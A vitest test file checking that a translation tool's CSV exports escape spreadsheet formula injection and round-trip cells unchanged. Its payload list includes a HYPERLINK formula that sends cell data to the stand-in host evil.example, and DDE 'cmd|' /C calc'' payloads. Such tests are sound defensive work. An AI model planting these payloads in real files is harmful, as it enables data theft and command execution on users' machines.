/**
 * CSV formula injection: every CSV Tilik writes (document, quality, glossary) shows a cell that a
 * spreadsheet would run as a formula as text instead, and Tilik's own CSV reading gives the cell
 * back unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, parseCsv, toCsv } from '../../../server/formats/csv';
import type { Segment } from '../../../shared/schemas';
import { buildDocument, createHarness, type Harness } from '../../helpers/api';

/** What a spreadsheet runs: a cell beginning with =, +, -, @, a tab or a carriage return. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already escaped once",
  "''+twice",
  "'plain apostrophe",
  '-',
  '-12.5',
  '+7',
  'ordinary text, with a comma',
];

function cellsOf(csv: string): string[] {
  return parseCsv(csv).flatMap((row) => row.fields);
}

/** The raw cells as a spreadsheet sees them: quotes removed, nothing else undone. */
function rawCells(csv: string): string[] {
  const cells: string[] = [];
  let i = 0;
  const text = csv.replace(/^\uFEFF/, '');
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else {
          cell += text[i];
          i += 1;
        }
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        cell += text[i];
        i += 1;
      }
    }
    cells.push(cell);
    if (text[i] === ',') i += 1;
    else while (text[i] === '\r' || text[i] === '\n') i += 1;
  }
  return cells;
}

function expectDefused(csv: string) {
  for (const cell of rawCells(csv)) {
    if (RUNS_AS_FORMULA.test(cell)) expect(cell, 'a cell a spreadsheet would run').toMatch(/^[-+]?[0-9]+(\.[0-9]+)?$/);
  }
}

describe('the CSV writer and reader', () => {
  it.each(PAYLOADS)('writes %j so a spreadsheet shows text, and reads it back unchanged', (payload) => {
    const csv = toCsv([['a', payload, 'b']]);
    expectDefused(csv);
    expect(parseCsv(csv)[0]?.fields).toEqual(['a', payload, 'b']);
  });

  it('leaves plain numbers, negative ones too, as numbers', () => {
    expect(csvField('-12.5')).toBe('-12.5');
    expect(csvField('42')).toBe('42');
    expect(csvField('=1')).toBe("'=1");
  });

  it('is one to one over every prefix of apostrophes and trigger characters', () => {
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', 'x', '1'];
    const values: string[] = [''];
    for (let length = 1; length <= 4; length += 1) {
      for (const value of values.filter((v) => v.length === length - 1)) for (const ch of alphabet) values.push(value + ch);
    }
    for (const value of values) {
      const csv = toCsv([[value]]);
      expectDefused(csv);
      expect(parseCsv(csv)[0]?.fields ?? [''], JSON.stringify(value)).toEqual([value]);
    }
  });
});

describe('every CSV export', () => {
  let h: Harness;
  let documentId: number;
  beforeAll(async () => {
    h = await createHarness();
    const { document, segments } = await buildDocument(h.services, {
      title: 'Injected',
      segments: PAYLOADS.map((payload) => ({ source: payload, mt: payload })),
    });
    documentId = document.id;
    const first = segments[0] as Segment;
    await h.api.post(`/api/segments/${first.id}/revisions`).send({ text: PAYLOADS[1], baseVersion: 0 });
    for (const payload of PAYLOADS.slice(0, 6)) {
      const response = await h.api
        .post(`/api/segments/${first.id}/annotations`)
        .send({ revisionId: null, start: 0, end: 1, category: 'accuracy/mistranslation', severity: 'minor', comment: payload });
      expect(response.status).toBe(201);
    }
    const glossary = await h.api.post('/api/glossary/terms').send({
      sourceLang: 'en',
      targetLang: 'id',
      source: '=cmd|calc',
      target: '@SUM(1)',
      forbidden: ['+bad', '-worse'],
      note: '=HYPERLINK("x")',
    });
    expect(glossary.status).toBe(201);
  });
  afterAll(() => h.close());

  it('the document CSV', async () => {
    const response = await h.api.get(`/api/documents/${documentId}/export?format=csv`);
    expect(response.status).toBe(200);
    expectDefused(response.text);
    const cells = cellsOf(response.text);
    for (const payload of PAYLOADS) expect(cells).toContain(payload);
  });

  it('the quality CSVs', async () => {
    for (const table of ['errors', 'segments']) {
      const response = await h.api.get(`/api/documents/${documentId}/quality/export?table=${table}`);
      expect(response.status).toBe(200);
      expectDefused(response.text);
      // comments are stored trimmed
      if (table === 'errors') for (const payload of PAYLOADS.slice(0, 6)) expect(cellsOf(response.text)).toContain(payload.trim());
    }
  });

  it('the glossary CSV, which Tilik imports back unchanged', async () => {
    const exported = await h.api.get('/api/glossary/export?sourceLang=en&targetLang=id&format=csv');
    expect(exported.status).toBe(200);
    expectDefused(exported.text);
    const before = (await h.api.get('/api/glossary/terms?sourceLang=en&targetLang=id')).body.items;
    const imported = await h.api
      .post('/api/glossary/import')
      .field('sourceLang', 'en')
      .field('targetLang', 'id')
      .field('mode', 'replace')
      .attach('file', Buffer.from(exported.text), 'glossary.csv');
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    const after = (await h.api.get('/api/glossary/terms?sourceLang=en&targetLang=id')).body.items;
    const strip = (terms: Array<Record<string, unknown>>) =>
      terms.map(({ source, target, forbidden, note, doNotTranslate, caseSensitive }) => ({
        source,
        target,
        forbidden,
        note,
        doNotTranslate,
        caseSensitive,
      }));
    expect(strip(after)).toEqual(strip(before));
    expect(strip(after)).toContainEqual(
      expect.objectContaining({ source: '=cmd|calc', target: '@SUM(1)', forbidden: ['+bad', '-worse'], note: '=HYPERLINK("x")' }),
    );
  });
});
